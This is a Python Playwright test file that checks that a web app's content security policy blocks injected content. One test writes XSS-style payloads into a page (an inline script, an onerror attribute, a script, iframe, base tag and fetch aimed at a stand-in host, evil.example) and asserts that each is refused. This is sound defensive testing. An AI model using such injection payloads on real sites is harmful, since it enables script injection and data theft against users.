"""The content security policy in a browser: everything is drawn under it, and what it forbids does not run.

That nothing is against it holds in every browser test: the fixture `window` says so, of each page in light and dark,
of clicks, pictures and files. `test_every_page` looks for each kind of drawing.
"""

from collections.abc import Callable

from playwright.sync_api import expect

from tests.browser.conftest import SIGN_IN, Window


def test_the_page_to_sign_in_is_drawn(window: Callable[..., Window], web_app: Callable[..., str]) -> None:
    """It has the same policy."""
    page = window("/live", at=web_app(**SIGN_IN)).page
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()


def test_what_is_written_into_a_page_does_not_run(window: Callable[..., Window]) -> None:
    """Neither as a script, nor in an attribute, nor as text that is evaluated, nor from another host, nor in a frame."""
    opened = window("/nothing")
    tried = opened.page.evaluate(
        """async () => {
          const found = []
          addEventListener('securitypolicyviolation', each => found.push(each.effectiveDirective))
          const put = (tag, what) => document.body.append(Object.assign(document.createElement(tag), what))
          put('script', {textContent: 'window.ran = 1'})
          document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 2">')
          put('script', {src: 'https://evil.example/x.js'})
          put('iframe', {src: 'https://evil.example/'})
          put('base', {href: 'https://evil.example/'})
          await fetch('https://evil.example/').catch(() => {})
          await new Promise(done => setTimeout(done, 500))
          return {ran: window.ran ?? null, found: [...new Set(found)].sort(), base: document.baseURI}
        }"""
    )
    assert tried["ran"] is None
    assert tried["base"].startswith("http://localhost")
    assert tried["found"] == ["base-uri", "connect-src", "frame-src", "script-src-attr", "script-src-elem"]
    # What was tried here stands in the console, and the address that is not there.
    opened.errors.clear()
    opened.foreign.clear()
